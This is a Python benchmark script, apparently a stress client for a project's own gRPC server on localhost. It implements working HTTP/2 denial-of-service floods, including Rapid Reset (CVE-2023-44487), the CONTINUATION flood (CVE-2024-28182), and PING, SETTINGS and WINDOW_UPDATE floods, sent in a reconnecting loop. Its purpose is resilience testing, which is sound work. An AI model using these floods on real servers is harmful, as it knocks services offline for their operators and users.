"""A client that means no good: one kind of flood over one connection after another, as fast as it can, until it is ended.

python -m benchmarks.servers.abuser PORT FLOOD       FLOOD: any of FLOODS
"""

from __future__ import annotations

import os
import socket
import struct
import sys
from collections.abc import Callable

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
FRAMES_PER_WRITE = 500


def frame(kind: int, payload: bytes, flags: int = 0, stream: int = 0) -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def header_block(path: str) -> bytes:
    """A gRPC call's headers as HPACK literals without indexing (RFC 7541, section 6.2.2)."""
    fields = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "x")]
    fields += [("te", "trailers"), ("content-type", "application/grpc")]
    return b"".join(b"\0" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode() for name, value in fields)


def rapid_reset(path: str, stream: int) -> bytes:
    """CVE-2023-44487: calls that are reset at once."""
    block = header_block(path)
    frames = b""
    for index in range(FRAMES_PER_WRITE // 2):
        frames += frame(HEADERS, block, END_HEADERS, stream + 2 * index)
        frames += frame(RST_STREAM, struct.pack(">I", 8), 0, stream + 2 * index)
    return frames


def continuation(stream: int) -> bytes:
    """CVE-2024-28182: a header block that never ends."""
    start = frame(HEADERS, header_block("/x"), 0, 1) if stream == 1 else b""
    return start + frame(CONTINUATION, b"\0\x01a\x7f\x01" + b"b" * 128, 0, 1) * FRAMES_PER_WRITE


# What to send next; the argument is the first stream id that was not used.
FLOODS: dict[str, Callable[[int], bytes]] = {
    "ping": lambda _: frame(PING, b"12345678") * FRAMES_PER_WRITE,
    "settings": lambda _: frame(SETTINGS, b"") * FRAMES_PER_WRITE,
    "window-update": lambda _: frame(WINDOW_UPDATE, struct.pack(">I", 1)) * FRAMES_PER_WRITE,
    "reset-score": lambda stream: rapid_reset("/assay.v1.ScoringService/Score", stream),
    "reset-forwarded": lambda stream: rapid_reset("/grpc.health.v1.Health/Check", stream),
    "continuation": continuation,
}


def main() -> None:
    port, flood = int(sys.argv[1]), FLOODS[sys.argv[2]]
    os.nice(19)  # its own work is an attacker's machine's: it takes of this one what is left
    print("ready", flush=True)
    while True:
        with socket.create_connection(("127.0.0.1", port)) as connection:
            connection.settimeout(5.0)
            stream = 1
            try:
                connection.sendall(PREFACE + frame(SETTINGS, b""))
                while True:
                    connection.sendall(flood(stream))
                    stream += FRAMES_PER_WRITE
            except OSError:
                continue  # sent away: once more


if __name__ == "__main__":
    main()
